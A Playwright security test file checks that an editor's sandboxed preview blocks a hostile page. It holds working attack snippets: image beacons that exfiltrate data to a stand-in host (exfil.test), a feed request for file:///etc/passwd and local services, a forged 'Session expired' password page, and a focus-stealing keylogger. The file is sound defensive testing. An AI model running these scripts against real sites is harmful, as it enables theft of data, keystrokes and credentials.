import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { test, expect, preview, createPage, addComponent, saveContent, setBannerTitle, E2E_USER } from './host';
import { chooseMoreAction } from './toolbar';

/*
 * Issue 11, points 1-4: a hostile page in the preview tries to reach what the editor can, and every attempt
 * must fail. Its scripts run as custom scripts; whatever they get out leaves through https images
 * (which the preview's CSP allows), caught here by a route on exfil.test and checked for secrets.
 */

const EXFIL = 'https://exfil.test';

/** Every URL the hostile page loaded from the exfiltration host. */
async function watchExfiltration(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.context().route(`${EXFIL}/**`, async (route) => {
    seen.push(decodeURIComponent(route.request().url()));
    await route.fulfill({ status: 204 });
  });
  return seen;
}

async function listen(handler: RequestListener): Promise<{ url: string; server: Server }> {
  const server = createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server };
}

async function applyScript(page: Page, script: string): Promise<void> {
  await chooseMoreAction(page, 'Script manager');
  const dialog = page.getByRole('dialog', { name: 'Script manager' });
  await dialog.getByLabel('Custom scripts').fill(script);
  await dialog.getByRole('button', { name: 'Apply' }).click();
  await expect(dialog).toBeHidden();
}

const previewBody = (page: Page) => preview(page).locator('body');
const previewConsole = (page: Page) => preview(page).getByRole('log', { name: 'Preview console' });

/** A tally kept for the report: every escape the hostile page tries, and whether it got out. */
const escapes: { attempt: string; escaped: boolean }[] = [];
test.afterAll(() => {
  const escaped = escapes.filter((entry) => entry.escaped).length;
  console.log(`hostile preview: ${escapes.length} escapes tried, ${escaped} succeeded`);
});
const tried = (attempt: string, escaped: boolean) => {
  escapes.push({ attempt, escaped });
  expect(escaped, attempt).toBe(false);
};

test('the feed relay reads only the feed a block declares, never the app’s data or a local service', async ({
  page,
  host,
}) => {
  const exfiltrated = await watchExfiltration(page);
  const localService = await listen((_request, response) => {
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"secret":"LOCAL-SERVICE-SECRET"}');
  });
  try {
    // A saved page whose name and content the hostile page would love to read.
    await createPage(page, host, 'confidential launch');
    await addComponent(page, 'Main Banner');
    await setBannerTitle(page, 'CONFIDENTIAL-PRICING');
    await expect(await saveContent(page, 'secret')).toBeHidden();
    await expect(page.getByRole('button', { name: 'New Page' })).toBeVisible();

    await createPage(page, host, 'hostile feeds');
    await addComponent(page, 'Blog');
    // The declared sample feed still works.
    await expect(preview(page).getByText('How to Choose Your First Running Shoe').first()).toBeVisible();
    const blogId = await preview(page).locator('[data-component="Blog"]').getAttribute('data-identifier');

    // The page listens to every answer and asks by URL, the old way, and by the Blog's identifier.
    await applyScript(
      page,
      `
const leak = (label, value) => { new Image().src = '${EXFIL}/' + label + '?d=' + encodeURIComponent(JSON.stringify(value)); };
window.preview.onCommand((command) => { if (command.type === 'feed') leak('feed', command); });
for (const url of ['/pages', '/pages?fascia=site_jd', '${host.url}/api/listPages', '${localService.url}/']) {
  window.preview.emit({ type: 'requestFeed', url });
  window.preview.emit({ type: 'requestFeed', blockId: ${JSON.stringify(blogId)}, url });
}
fetch('${host.url}/api/listPages', { method: 'POST', body: '{}' }).then((r) => r.text()).then((t) => leak('api', t), (e) => leak('api-failed', String(e)));
fetch('${localService.url}/').then((r) => r.text()).then((t) => leak('local', t), (e) => leak('local-failed', String(e)));
document.body.dataset.hostile = 'ran';`,
    );
    await expect(previewBody(page)).toHaveAttribute('data-hostile', 'ran');

    // Now the Blog itself declares hostile feeds: the app's saved-pages list, another page, a local service.
    const apiLink = page.getByLabel('Api link', { exact: true });
    const refusals: [string, RegExp][] = [
      ['/pages', /Only the sample feed is read from Storefront Studio’s own server/],
      ['/pages/site_jd/web/content-editor/confidential-launch/uat/gb', /Only the sample feed/],
      [`${host.url}/api/listPages`, /not read from the local machine or a private network/],
      [`${localService.url}/`, /not read from the local machine or a private network/],
      [`http://localhost:${new URL(localService.url).port}/`, /not read from the local machine or a private network/],
      ['file:///etc/passwd', /Feeds are read over http or https/],
    ];
    for (const [address, reason] of refusals) {
      await apiLink.fill(address);
      await expect(preview(page).locator('.blog-failed')).toContainText(reason);
    }
    await expect
      .poll(() => exfiltrated.filter((url) => url.includes('/feed?')).length)
      .toBeGreaterThanOrEqual(refusals.length);
    // What would show the relay worked: the saved page's content, the saved-pages list (its author), the
    // local service's answer, a system file.
    const secrets = ['CONFIDENTIAL-PRICING', E2E_USER.toLowerCase(), 'LOCAL-SERVICE-SECRET', 'root:x:0'];
    for (const [address] of refusals) {
      const answers = exfiltrated.filter(
        (url) => url.includes('/feed?') && url.includes(JSON.stringify(address).slice(1, -1)),
      );
      // The page did see the answer main gave for it: a refusal.
      expect(answers.length, address).toBeGreaterThan(0);
      tried(
        `feed relay to ${address}`,
        answers.some((url) => secrets.some((secret) => url.includes(secret))),
      );
    }
    tried(
      'feed requested by URL',
      exfiltrated.some((url) => url.includes('/feed?') && url.includes('"data"') && !url.includes('blog')),
    );
    tried(
      'fetch of the API and the local service',
      exfiltrated.some((url) => /\/(api|local)\?/.test(url)),
    );
    tried(
      'anything secret, by any way',
      exfiltrated.some((url) => secrets.some((secret) => url.includes(secret))),
    );
  } finally {
    localService.server.close();
  }
});

test('a preview that navigates away is put back, and messages from anywhere else are never heard', async ({
  page,
  host,
}) => {
  const foreignMessages: string[] = [];
  // The foreign "session expired" page: it forges the preview's messages and tries to take over its port.
  const foreign = await listen((request, response) => {
    foreignMessages.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>Session expired</title>
<h1>Session expired, enter your password</h1><input type="password">
<script>
  const forged = [{ type: 'select', id: window.name.split('|')[1] }, { type: 'ready' }, { kind: 'event', event: { type: 'select', id: window.name.split('|')[1] } }];
  for (const message of forged) parent.postMessage(message, '*');
  addEventListener('message', (event) => {
    for (const port of event.ports) {
      port.postMessage({ kind: 'hello', token: 'guessed' });
      port.postMessage({ kind: 'event', event: forged[0] });
    }
  });
  setInterval(() => forged.forEach((message) => parent.postMessage(message, '*')), 20);
</script>`);
  });
  try {
    await createPage(page, host, 'hostile navigation');
    await addComponent(page, 'Main Banner');
    await addComponent(page, 'Custom HTML');
    const bannerId = await preview(page).locator('[data-component="MainBanner"]').getAttribute('data-identifier');
    // Close every row, so a forged select would show by opening one.
    await page.locator('.component-row.open .row-title').click();
    await expect(page.locator('.component-row.open')).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'Links in Preview: Inactive' })).toBeVisible();

    // Once per frame (window.name outlives the document): leave for the foreign page.
    await applyScript(
      page,
      `
if (!window.name.startsWith('left')) {
  window.name = 'left|' + ${JSON.stringify(bannerId)};
  setTimeout(() => { location.href = '${foreign.url}/session-expired'; }, 50);
}`,
    );
    await expect.poll(() => foreignMessages.length).toBeGreaterThan(0);
    await expect(
      page.getByText('A script in the preview tried to leave the page while Links in Preview is Inactive'),
    ).toBeVisible();
    // Back on the page, with the editor's content.
    await expect(preview(page).locator('[data-component="MainBanner"] h2')).toHaveText('New Season Trainers');
    await expect(preview(page).getByRole('heading', { name: 'Session expired, enter your password' })).toHaveCount(0);
    // The forged selects opened nothing, and the page keeps following the editor.
    await page.waitForTimeout(500);
    tried('forged select from the foreign page', (await page.locator('.component-row.open').count()) > 0);
    await page.getByRole('button', { name: 'Main Banner', exact: true }).click();
    await page.getByRole('textbox', { name: 'Title', exact: true }).fill('Still the editor’s page');
    await expect(preview(page).locator('[data-component="MainBanner"] h2')).toHaveText('Still the editor’s page');

    // Forged messages from a foreign window beside the preview, on the editor's own window.
    await page.evaluate(
      ({ url, id }) => {
        const frame = document.createElement('iframe');
        frame.src = `${url}/beside`;
        frame.name = `x|${id}`;
        document.body.appendChild(frame);
      },
      { url: foreign.url, id: bannerId },
    );
    await page.locator('.component-row.open .row-title').click();
    await expect(page.locator('.component-row.open')).toHaveCount(0);
    await page.waitForTimeout(500);
    tried('forged messages from a foreign window', (await page.locator('.component-row.open').count()) > 0);

    // A link the preview asks to follow is gated by the navigation rule even while links are active.
    await page.getByRole('button', { name: 'Links in Preview: Inactive' }).click();
    await expect(page.getByRole('button', { name: 'Links in Preview: Active' })).toBeVisible();
    await applyScript(
      page,
      `window.preview.navigate('${host.url}/editor/index.html');
window.preview.navigate('javascript:alert(1)');`,
    );
    await expect(previewConsole(page)).toContainText(`Navigation to ${host.url}/editor/index.html was blocked.`);
    tried(
      'navigation to the editor page while links are active',
      (await page.frames().filter((f) => f.url().includes('/editor/')).length) > 1,
    );
  } finally {
    foreign.server.close();
  }
});

test('a script cannot take the keyboard from the editor: focus goes back and typed text stays in the editor', async ({
  page,
  host,
}) => {
  const exfiltrated = await watchExfiltration(page);
  await createPage(page, host, 'hostile focus');
  await addComponent(page, 'Main Banner');
  // Emptied before the script runs: only typed characters are handed back to the editor, not a select-all.
  const name = page.getByLabel('Name', { exact: true });
  await name.fill('');
  await applyScript(
    page,
    `
const trap = document.body.appendChild(document.createElement('input'));
trap.id = 'trap';
let captured = '';
for (const type of ['keydown', 'keypress', 'input']) {
  document.addEventListener(type, (event) => { captured += event.key || event.data || ''; }, true);
}
// The plain way, and ways that move focus without calling focus(): a modal dialog, a label's click.
const dialog = document.body.appendChild(document.createElement('dialog'));
const inDialog = dialog.appendChild(document.createElement('input'));
const label = document.body.appendChild(document.createElement('label'));
label.appendChild(document.createElement('input'));
let turn = 0;
setInterval(() => {
  turn++;
  trap.focus();
  window.focus();
  if (turn % 3 === 1) { if (dialog.open) dialog.close(); dialog.showModal(); }
  if (turn % 3 === 2) label.click();
  document.body.dataset.captured = captured + '|' + trap.value + inDialog.value + label.firstChild.value;
  if (captured || trap.value) new Image().src = '${EXFIL}/keys?d=' + encodeURIComponent(captured + trap.value);
}, 5);
document.body.dataset.hostile = 'ran';`,
  );
  await expect(previewBody(page)).toHaveAttribute('data-hostile', 'ran');
  // Counts the times the script did take the focus from the editor, to show the attack was real.
  await page.evaluate(() => {
    const counter = window as unknown as { focusTaken: number };
    counter.focusTaken = 0;
    window.addEventListener('blur', () => counter.focusTaken++);
  });
  await name.click();
  const typed = 'typed by editor';
  await name.pressSequentially(typed, { delay: 40 });
  // Every character reaches the editor. One handed back from the preview can arrive after the next one typed
  // straight into the field, on a loaded machine: the same characters, perhaps not quite in order.
  const letters = (text: string) => [...text].sort().join('');
  await expect.poll(async () => letters(await name.inputValue())).toBe(letters(typed));
  await expect(name).toBeFocused();
  // Once the editor stops typing, the script still cannot keep the focus (it held it between typing bursts).
  await page.waitForTimeout(1500);
  await expect(name).toBeFocused({ timeout: 2000 });
  await expect(previewBody(page)).toHaveAttribute('data-captured', '|');
  const focusTaken = await page.evaluate(() => (window as unknown as { focusTaken: number }).focusTaken);
  const editorText = await name.inputValue();
  const inOrder = editorText === typed;
  console.log(`focus taken by the script ${focusTaken} times while typing, and given back; text in order: ${inOrder}`);
  expect(focusTaken).toBeGreaterThan(0);
  tried('focus(), showModal() and label clicks in a loop while the editor types', exfiltrated.length > 0);

  // A real click puts the keyboard in the preview, even right after typing in the editor; typing there works.
  await previewBody(page).evaluate(() => {
    for (let id = 1; id < 10_000; id++) clearInterval(id);
    document.querySelector('dialog')?.close();
  });
  await name.press('End');
  await preview(page).locator('#trap').click();
  await page.keyboard.type('in preview');
  await expect(preview(page).locator('#trap')).toHaveValue('in preview');
  // Typing in the preview leaves the editor's field as the editor typed it (its letters, in the order they came).
  await expect(name).toHaveValue(editorText);
});

test('a flood of messages is dropped past each type’s budget, with one notice, and the editor keeps working', async ({
  page,
  host,
}) => {
  // About 25,000 messages a run, hundreds of times every budget; no timing is asserted.
  await createPage(page, host, 'hostile flood');
  await addComponent(page, 'Main Banner');
  await applyScript(
    page,
    `
let resets = 0;
window.preview.onCommand((command) => { if (command.type === 'reset') document.body.dataset.resets = String(++resets); });
const flood = () => {
  for (let i = 0; i < 1000; i++) window.preview.emit({ type: 'ready' });
  for (let i = 0; i < 100; i++) window.preview.emit({ type: 'select', id: 12345 });
  for (let i = 0; i < 100; i++) window.preview.emit('garbage');
};
flood();
const timer = setInterval(flood, 100);
setTimeout(() => { clearInterval(timer); document.body.dataset.flooded = 'done'; }, 2000);`,
  );
  // The editor answers while the flood goes on.
  const title = page.getByRole('textbox', { name: 'Title', exact: true });
  await title.fill('Answered during the flood');
  await expect(preview(page).locator('[data-component="MainBanner"] h2')).toHaveText('Answered during the flood', {
    timeout: 5000,
  });
  await expect(previewBody(page)).toHaveAttribute('data-flooded', 'done', { timeout: 10_000 });
  const resets = Number((await previewBody(page).getAttribute('data-resets')) ?? '0');
  // Budget for ready: 4 in 10 s (core/preview.ts), so the whole page was sent again at most 4 times.
  tried('ready flood (whole-page answers beyond the budget)', resets > 4);
  await expect(previewConsole(page)).toContainText(
    'Storefront Studio dropped "ready" messages from the preview: more than 4 in 10 s.',
  );
  await expect(previewConsole(page).getByText('dropped "ready" messages')).toHaveCount(1);
  await expect(previewConsole(page)).toContainText('dropped messages from the preview that it does not understand');
  await title.fill('Still answering');
  await expect(preview(page).locator('[data-component="MainBanner"] h2')).toHaveText('Still answering');
});
